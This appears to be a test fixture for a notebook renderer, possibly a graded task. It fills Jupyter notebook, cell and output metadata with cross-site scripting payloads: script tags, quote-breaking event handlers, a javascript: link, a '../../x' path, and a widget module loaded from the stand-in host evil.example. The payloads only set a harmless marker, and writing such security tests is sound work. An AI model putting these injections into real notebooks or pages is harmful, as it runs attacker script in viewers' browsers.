# Writes into the metadata what makes the page: the language, the kernel, widgets, slides, cell ids and output sizes.
# points: 100
# base: right
# %% change task10_classification
{"language_info": {"name": "<script>window.PWNED=1</script>", "pygments_lexer": "html\"><script>window.PWNED=1</script>", "codemirror_mode": {"name": "htmlmixed"}, "mimetype": "text/html", "file_extension": ".html"}, "kernelspec": {"name": "../../x", "display_name": "<script>window.PWNED=1</script>", "language": "javascript"}, "widgets": {"application/vnd.jupyter.widget-state+json": {"version_major": 2, "version_minor": 0, "state": {"a": {"model_name": "HTMLModel", "model_module": "https://evil.example/x", "model_module_version": "*", "state": {"value": "</script><script>window.PWNED=1</script>"}}}}}, "celltoolbar": "<script>window.PWNED=1</script>", "rise": {"header": "<script>window.PWNED=1</script>"}}
# %% change select_threshold
{"id": "x\"><script>window.PWNED=1</script>", "metadata": {"nbgrader": {"comment": "<script>window.PWNED=1</script>", "score": "<script>", "points": 99}, "magics_language": "html", "magics_lexer": "<script>", "tags": ["x onload=PWNED=1", "remove_cell", "hide-input"], "slideshow": {"slide_type": "\"><script>window.PWNED=1</script>"}, "title": "<script>window.PWNED=1</script>", "vscode": {"languageId": "html"}}}
# %% cell task10_classification
{"cell_type": "code", "id": "hhhh\" onclick=\"PWNED=1", "metadata": {"widgets": {"x": 1}, "name": "\"><script>window.PWNED=1</script>"}, "execution_count": "<script>window.PWNED=1</script>", "source": "1", "outputs": [{"output_type": "display_data", "metadata": {"image/png": {"width": "1 onerror=PWNED=1"}, "filenames": {"image/png": "x\" onerror=\"PWNED=1"}}, "data": {"application/vnd.jupyter.widget-view+json": {"model_id": "a"}, "text/vnd.mermaid": "</pre><script>window.PWNED=1</script>", "text/latex": "$\\href{javascript:PWNED=1}{x}$"}}, {"output_type": "script", "data": {}}]}
# %% cell task10_classification
{"cell_type": "<script>window.PWNED=1</script>", "id": "iiii", "metadata": {}, "source": "<script>window.PWNED=1</script>"}
